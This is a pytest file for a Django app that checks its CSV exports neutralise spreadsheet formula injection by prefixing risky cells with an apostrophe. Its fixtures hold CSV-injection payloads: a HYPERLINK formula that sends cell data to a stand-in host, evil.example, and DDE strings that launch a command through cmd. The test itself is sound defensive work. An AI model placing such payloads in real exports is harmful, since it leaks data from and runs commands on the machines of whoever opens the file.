"""Every CSV the app writes neutralises cells a spreadsheet would read as a formula.

OWASP's advice for CSV injection: a cell that starts with = + - @, a tab or a carriage
return gets a leading apostrophe, so the spreadsheet shows it as text.
"""

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings

from networks.models import Actor, NetworkActor
from tests.networks.insights.data import join, make_closed_scan, make_network

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Klik hier")'
DANGEROUS = ["+31 6 1234", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab", "\rCR"]


def _table(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _cells(rows):
    return [cell for row in rows for cell in row]


@pytest.fixture
def tricky(network, alice):
    """Give alice two networks, sharing actors whose names look like formulas."""
    network.name = FORMULA
    network.save(update_fields=["name"])
    other = make_network("Tweede netwerk", [])
    join(alice, other)
    for number, name in enumerate(DANGEROUS):
        actor = Actor.objects.create(name=name)
        for each in (network, other):
            NetworkActor.objects.create(
                network=each, actor=actor, key=f"t{number}", role=NetworkActor.Role.PARTICIPANT
            )
    return network


@pytest.mark.parametrize("table", ["netwerken", "paren", "actoren"])
def test_the_overlap_tables_start_no_cell_with_a_formula(client, alice, tricky, table):
    client.force_login(alice)
    cells = _cells(_table(client.get(f"/overlap/export.csv?tabel={table}")))
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_actor_table_keeps_each_name_readable(client, alice, tricky):
    client.force_login(alice)
    cells = _cells(_table(client.get("/overlap/export.csv?tabel=actoren")))
    for name in DANGEROUS:
        assert "'" + name in cells


def test_numbers_and_plain_text_are_left_alone(client, alice, tricky):
    client.force_login(alice)
    rows = _table(client.get("/overlap/export.csv?tabel=netwerken"))
    assert rows[0][:2] == ["nummer", "netwerk"]
    assert ["2", "Tweede netwerk"] in [row[:2] for row in rows]


def test_the_scan_results_start_no_cell_with_a_formula(client, network, alice):
    answers = {"k1_1": 4}
    scan = make_closed_scan(network, [answers, answers, answers])
    client.force_login(alice)
    cells = _cells(_table(client.get(f"/n/{network.slug}/scans/{scan.pk}/resultaten.csv")))
    assert cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_every_csv_goes_through_the_one_safe_writer():
    """A new export that made its own csv.writer would skip the neutralising."""
    writers = [
        path
        for room in ("canvas", "networks", "coalitions")
        for path in Path(settings.BASE_DIR, room).rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8")
    ]
    assert len(writers) == 1
